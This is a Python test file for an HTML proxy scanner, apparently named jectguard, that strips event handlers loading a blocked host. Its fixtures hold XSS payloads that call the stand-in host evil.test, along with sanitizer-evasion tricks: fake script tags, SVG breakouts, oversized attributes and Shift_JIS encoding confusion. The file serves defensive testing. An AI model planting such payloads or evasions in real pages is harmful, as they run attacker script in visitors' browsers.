"""Event handlers are placed in the start tags a browser builds, and the fast path's
element caches hold only under everything a verdict depends on (red team RT-A).

- A ``<script`` that is no script element (in a comment, an attribute value,
  ``<textarea>``, ``<title>``...) used to make the handler search skip everything up
  to a ``</script>`` as "script text"; a ``<script>`` in SVG reads its content as
  markup (an ``<img>`` there breaks out and its ``onerror`` runs).
- The start tag around a handler used to be looked for at most 16 ``<`` or 16 KB
  back: a long or ``<``-laden attribute value before the handler hid it.
- The same bytes read as Shift_JIS and windows-1252 are different scripts and URLs:
  a verdict remembered under one encoding must not decide the other.

The class is proved by a generated differential test: documents assembled from the
constructs that hide markup, around handlers that load a blocked host; after
``strip`` neither html5lib nor Lexbor builds an element with such a handler (with
scripting on: with scripting off no handler runs, and the scanner does not place
handlers in those readings).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import Any

import html5lib
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from hypothesis.utils.conventions import not_set
from selectolax.lexbor import LexborHTMLParser

sys.path.insert(0, str(Path(__file__).parent))
from test_htmlscan_hiding import HIDERS  # noqa: E402

from proxy_addons.core.htmlscan import HandlersUnplaced, Scanner  # noqa: E402

from .test_htmlscan import blocker  # noqa: E402

PAGE = "http://site.test/p.html"
H = "<img src=x onerror=\"import('//evil.test/x.js')\">"


def scanner(**kw: Any) -> Scanner:
    return Scanner(blocker({"evil.test"}), **kw)


def strip(body: bytes, *, fast_path: bool = True, **kw: Any) -> tuple[bytes, list[Any]]:
    return scanner(fast_path=fast_path, **kw).strip(body, PAGE, "text/html", comment=False)


# ---- a "<script" that is no script element hides nothing

FAKE_SCRIPTS = {
    "comment": f"<!-- <script> -->{H}<!-- </script> -->",
    "comment-no-end": f"<!--<script>-->{H}",
    "attribute": f"<a title='<script>'>a</a>{H}<a title='</script>'>b</a>",
    "attribute-no-end": f"<a title='<script>'>a</a>{H}",
    "textarea": f"<textarea><script></textarea>{H}<textarea></script></textarea>",
    "title": f"<title><script></title><p>{H}<!--</script>-->",
    "style": f"<style><script></style>{H}<style></script></style>",
    "xmp": f"<xmp><script></xmp>{H}",
    "noembed": f"<noembed><script></noembed>{H}",
    "bogus-comment": f"<!x <script>>{H}",
    "processing-instruction": f"<?x <script>>{H}",
    "end-tag": f"</x <script>>{H}",
    "script-in-svg": f"<svg><script>{H}</script></svg>",
    "alt-value-script": f'<img alt="<script src=hidden>">{H}',
    "uppercase": f"<!-- <SCRIPT> -->{H}<!-- </SCRIPT> -->",
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(FAKE_SCRIPTS))
def test_a_script_that_is_no_element_hides_no_handler(name: str, fast_path: bool) -> None:
    out, findings = strip(FAKE_SCRIPTS[name].encode(), fast_path=fast_path)
    assert [(f.element, f.removed) for f in findings] == [("img", True)], findings
    assert b"evil.test" not in out


def test_a_handler_inside_a_real_scripts_text_is_the_scripts_business() -> None:
    # The kept script is not cut: its "<img onerror" is JavaScript's string.
    body = (
        b"<script>var s = '<img src=x onerror=\"alert(1)\">'; var ioc = 'evil.test';</script>"
        b"<!-- <img src=x onerror=\"import('//evil.test/x.js')\"> -->"
        b"<textarea><img src=x onerror=\"import('//evil.test/x.js')\"></textarea>"
    )
    for fast_path in (True, False):
        out, findings = strip(body, fast_path=fast_path)
        assert out is body
        assert [f.reason for f in findings] == ["mention"]


# ---- a handler is placed however long or "<"-laden its tag is

TAG = "src=x onerror=\"import('//evil.test/x.js')\">"
LONG_TAGS = {
    "many-lt": "<img alt='" + "<" * 20 + "' " + TAG,
    "many-tags-in-value": "<img alt='" + "<b>" * 20 + "' " + TAG,
    "many-tags-unquoted": "<img alt=" + "<b" * 40 + " " + TAG,
    "long-value": "<img alt='" + "A" * 17000 + "' " + TAG,
    "long-unquoted": "<img alt=" + "A" * 17000 + " " + TAG,
    "many-attrs": "<img " + " ".join(f"data-a{i}=1" for i in range(3000)) + " " + TAG,
    "long-in-svg": "<svg><a title='" + "<" * 40000 + "' " + TAG + "</svg>",
    "long-interesting-tag": "<iframe title='" + "<" * 20000 + "' " + TAG + "</iframe>",
    "both": "<!-- <script> -->" + "<img alt='" + "<b>" * 6000 + "' " + TAG,
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(LONG_TAGS))
def test_a_handler_is_placed_however_long_its_tag(name: str, fast_path: bool) -> None:
    body = ("<p>before</p>" + LONG_TAGS[name] + "<p>after</p>").encode()
    out, findings = strip(body, fast_path=fast_path)
    assert [f.removed for f in findings] == [True], findings
    assert b"evil.test" not in out and out.endswith(b"<p>after</p>")


def test_a_handler_in_a_long_attribute_value_is_no_handler() -> None:
    # "onerror=" inside another attribute's value: no attribute, nothing cut.
    body = ("<a title='" + "<" * 20000 + " onerror=\"import('//evil.test/x.js')\"'>x</a>").encode()
    out, findings = strip(body)
    assert out is body and findings == []


def test_a_page_past_the_walks_bound_with_a_loading_handler_is_refused() -> None:
    # 300 "</p>" in SVG: each is read both ways (html5lib's parsers stay in SVG), more
    # alternative readings than the scanner runs. Past the first one it could not run,
    # where a handler's tag is not known for sure, the page is refused (502 in the
    # proxy, exit status 2 in ``jectguard strip``).
    cut = "<svg></p></svg>" * 300
    with pytest.raises(HandlersUnplaced):
        strip((cut + H).encode())
    before = (H + cut).encode()  # placed: every reading that reaches it ran
    out, findings = strip(before)
    assert [f.removed for f in findings] == [True] and b"evil.test" not in out
    mention = (cut + "<img src=x onerror=\"alert('evil.test')\">").encode()
    out, findings = strip(mention)
    assert out is mention and [f.reason for f in findings] == ["mention"]
    clean = (cut + "<img src=x onerror='alert(1)'>").encode()
    assert strip(clean) == (clean, [])


def test_readings_with_scripting_off_bound_nothing() -> None:
    # A <noscript> is read with scripting off too, where no handler runs: 300 of them
    # (a lazy-loading image gallery) leave every handler placed, and one inside a
    # <noscript> (raw text with scripting on) is none.
    body = ("<noscript><img src=a.png></noscript>" * 300 + H).encode()
    out, findings = strip(body)
    assert [f.removed for f in findings] == [True] and b"evil.test" not in out
    inside = (f"<noscript>{H}</noscript>").encode()
    assert strip(inside) == (inside, [])


# ---- only the handler goes: the page reads as before

CUT = {
    "breakout-from-svg": (
        "<svg>" + H + "<title>" + H.replace("x.js", "y.js"),
        "<svg><img src=x data-jectguard-removed ><title>" + H.replace("x.js", "y.js"),
    ),
    "self-closing": (
        "<svg/onload=\"fetch('//evil.test/')\"/><p>after</p>",
        "<svg/data-jectguard-removed /><p>after</p>",
    ),
    "duplicates": (
        '<img src=x ONERROR="import(\'//evil.test/\')" onerror="alert(1)">',
        "<img src=x data-jectguard-removed  data-jectguard-removed >",
    ),
    "no-space-after-quote": (
        "<font onclick=\"fetch('//evil.test/')\"color=red>x</font>",
        "<font data-jectguard-removed color=red>x</font>",
    ),
    "other-handlers-stay": (
        '<body onload="init()" onerror="import(\'//evil.test/\')"><p>x</p>',
        '<body onload="init()" data-jectguard-removed ><p>x</p>',
    ),
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(CUT))
def test_only_the_handler_attribute_is_cut(name: str, fast_path: bool) -> None:
    doc, expected = CUT[name]
    out, findings = strip(doc.encode(), fast_path=fast_path)
    assert out.decode() == expected, findings
    assert _shape(out.decode()) == _shape(doc)


def test_a_cut_handler_is_reported_with_its_start_tag() -> None:
    doc = "<p>a</p><img src=x onerror=\"import('//evil.test/')\"><p>b</p>"
    out, (f,) = scanner().strip(doc.encode(), PAGE, "text/html")  # (with the comment)
    assert (f.element, f.start, f.end, f.evidence) == ("img", 8, 52, "onerror: import")
    assert out == b"<p>a</p><img src=x data-jectguard-removed ><p>b</p>"


# ---- differential: after strip no reference parser builds a loading handler

EVIL = "evil.test"
HANDLERS = [
    "<img src=x onerror=\"import('//evil.test/i{i}.js')\">",
    "<img/src/onerror=location='//evil.test/j{i}'>",
    "<svg onload=\"fetch('//evil.test/s{i}')\"></svg>",
    "<svg><a onclick=\"fetch('//evil.test/a{i}')\">a</a></svg>",
    "<p title='<<<' onclick=\"fetch('//evil.test/p{i}')\">p</p>",
    "<img alt='<b>' src=x ONERROR=\"fetch('//evil.test/u{i}')\">",
    "<iframe onload=\"fetch('//evil.test/f{i}')\"></iframe>",
    "<script onload=\"fetch('//evil.test/c{i}')\" src=ok.js></script>",
    '<img src=x onerror="alert({i})">',
]
PIECES = [*HIDERS, "<script>", "<a title='<script>'>", "<svg><script>", "</svg>"]


# With scripting off (a <noscript>'s content as markup) no handler runs: the readings
# with scripting on are compared.
def _html5lib_handlers(doc: str) -> list[str]:
    tree = html5lib.HTMLParser(namespaceHTMLElements=True).parse(doc, scripting=True)
    return [
        f"html5lib: {el.tag} {k}={v!r}"
        for el in tree.iter()
        for k, v in el.attrib.items()
        if isinstance(k, str) and k.lower().startswith("on") and EVIL in v
    ]


def _lexbor_handlers(doc: str) -> list[str]:
    found = []
    tree = LexborHTMLParser(doc, scripting=True)
    stack = [tree.root] if tree.root is not None else []
    while stack:
        node = stack.pop()
        if node.is_element_node:
            for k, v in node.attributes.items():
                if k.lower().startswith("on") and v is not None and EVIL in v:
                    found.append(f"lexbor: {node.tag} {k}={v!r}")
            if (node.tag or "").lower() == "template":
                stack.extend(node.template_fragments())
        child = node.child
        while child is not None:
            stack.append(child)
            child = child.next
    return found


def _shape(doc: str) -> list[tuple[int, str]]:
    """The elements html5lib builds, as (depth, name), in document order."""
    out: list[tuple[int, str]] = []
    stack = [(html5lib.parse(doc, scripting=True), 0)]
    while stack:
        el, depth = stack.pop()
        out.append((depth, str(el.tag)))
        stack.extend((child, depth + 1) for child in reversed(list(el)))
    return out


def _no_handler_survives(doc: str) -> None:
    body = doc.encode()
    for fast_path in (True, False):
        out, findings = strip(body, fast_path=fast_path)
        text = out.decode()
        left = _html5lib_handlers(text) + _lexbor_handlers(text)
        assert not left, f"{left} in {text!r} (from {doc!r}; findings {findings})"
        if all(f.cuts for f in findings if f.removed):
            # Only handler attributes were cut: the page builds the same elements.
            assert _shape(text) == _shape(doc), (doc, text)


EXAMPLES = [*FAKE_SCRIPTS.values(), *(v for k, v in LONG_TAGS.items() if "long" not in k)]


@pytest.mark.parametrize("doc", EXAMPLES)
def test_handlers_after_hiding_constructs_are_stripped_for_both_parsers(doc: str) -> None:
    _no_handler_survives(doc)


@st.composite
def _documents(draw: st.DrawFn) -> str:
    parts: list[str] = []
    for i in range(draw(st.integers(1, 16))):
        if draw(st.integers(0, 2)) == 0:
            parts.append(draw(st.sampled_from(HANDLERS)).format(i=i))
        else:
            parts.append(draw(st.sampled_from(PIECES)))
    return "".join(parts)


# The same documents on every run (JG_EXPLORE=1 draws new ones).
@settings(
    max_examples=400,
    deadline=None,
    derandomize=not os.environ.get("JG_EXPLORE"),
    database=None if not os.environ.get("JG_EXPLORE") else not_set,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(_documents())
@example("<!-- <script> -->" + HANDLERS[0].format(i=0))
@example("<a title='<script>'>" + HANDLERS[1].format(i=0))
# Found by this test: removing the whole <img> start tag (a breakout from SVG) left
# the SVG open, and the <title> after it, RCDATA in HTML, became SVG's: its <img> ran.
@example("<svg>" + HANDLERS[0].format(i=1) + "<title>" + HANDLERS[0].format(i=3))
def test_generated_documents_keep_no_loading_handler(doc: str) -> None:
    _no_handler_survives(doc)


# ---- the fast path's caches: the encoding is part of what an element is

# 0x81 0x42 is Shift_JIS's ideographic full stop, a dot to the URL parser
# ("evil.test"); in windows-1252 it is no dot. 0x83 0x5C is one Shift_JIS character
# that eats the backslash after it: the script's escapes read differently.
SJIS = {
    "script-src": b'<script src="http://evil\x81\x42test/x.js"></script>',
    "script-text": b"<script>import('/'+('\x83"
    + b"\\" * 6
    + b"x65vil.test/x.js').slice(1))</script>",
    "iframe": b'<iframe src="http://evil\x81\x42test/"></iframe>',
    "svg-script": b'<svg><script href="http://evil\x81\x42test/x.js"></script></svg>',
    "meta-refresh": b'<meta http-equiv=refresh content="0;url=http://evil\x81\x42test/">',
}


@pytest.mark.parametrize("name", sorted(SJIS))
def test_a_verdict_remembered_under_one_encoding_does_not_decide_another(name: str) -> None:
    body = b"<!doctype html><p>hi</p>" + SJIS[name]
    sjis, latin = "text/html; charset=shift_jis", "text/html; charset=windows-1252"
    cold = scanner(cache_entries=0)
    assert cold.scan(body, PAGE, latin) == []
    expected = cold.scan(body, PAGE, sjis)
    assert [f.removed for f in expected] == [True]
    warm = scanner()
    for _ in range(2):  # warm under windows-1252, then Shift_JIS, twice over
        assert warm.scan(body, PAGE, latin) == []
        assert warm.scan(body, PAGE, sjis) == expected
    warm = scanner()
    for _ in range(2):  # and the other order
        assert warm.scan(body, PAGE, sjis) == expected
        assert warm.scan(body, PAGE, latin) == []


# ---- placing in a stretch read forward agrees with reading it token by token

_STRETCH_PIECES = [
    "<b>", "</b>", "<a title='<b onclick=x>'>", '<p title="a>b" onclick=y>', "<!-- <i onclick=z> -->",
    "<!-->", "<!--->", "<!x <u onclick=w>>", "<?x <u onclick=v>>", "</x <u onclick=u>>",
    "< onclick=t", "text onclick=s ", "<img/onclick=r>", "<img src='x'onclick=q>", "<", "-->",
    "<!--", "'", '"', ">", " onclick=p", "<br/ onclick=o>", "<i\nonclick\n=\nn>",
]  # fmt: skip


def _token_by_token(buf: bytes, lo: int, at: int) -> int:
    """By definition: the data-state tokens from ``lo``, one at a time."""
    from proxy_addons.core.htmlscan import _DATA_TOKEN, _TAG

    pos = lo
    while pos <= at:
        m = _DATA_TOKEN.match(buf, pos)
        end = m.end() if m is not None else len(buf)
        if end > at:
            tag = _TAG.match(buf, pos)
            return pos if tag is not None and not tag.group(1) and tag.end() > at else -1
        pos = end
    return -1


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_STRETCH_PIECES), max_size=30))
def test_a_stretch_is_read_forward_as_token_by_token(pieces: list[str]) -> None:
    from proxy_addons.core.htmlscan import _Markup, _Reading, _Track

    buf = ("<b>" + "".join(pieces) + "<b>").encode()
    whole = _Markup(buf, _Reading([], [_Track([], [(0, len(buf))])], len(buf) + 1))
    for at in range(len(buf)):
        fresh = _Markup(buf, _Reading([], [_Track([], [(0, len(buf))])], len(buf) + 1))
        expected = _token_by_token(buf, 0, at)
        assert whole.tags_at(at) == fresh.tags_at(at) == ([] if expected < 0 else [expected])
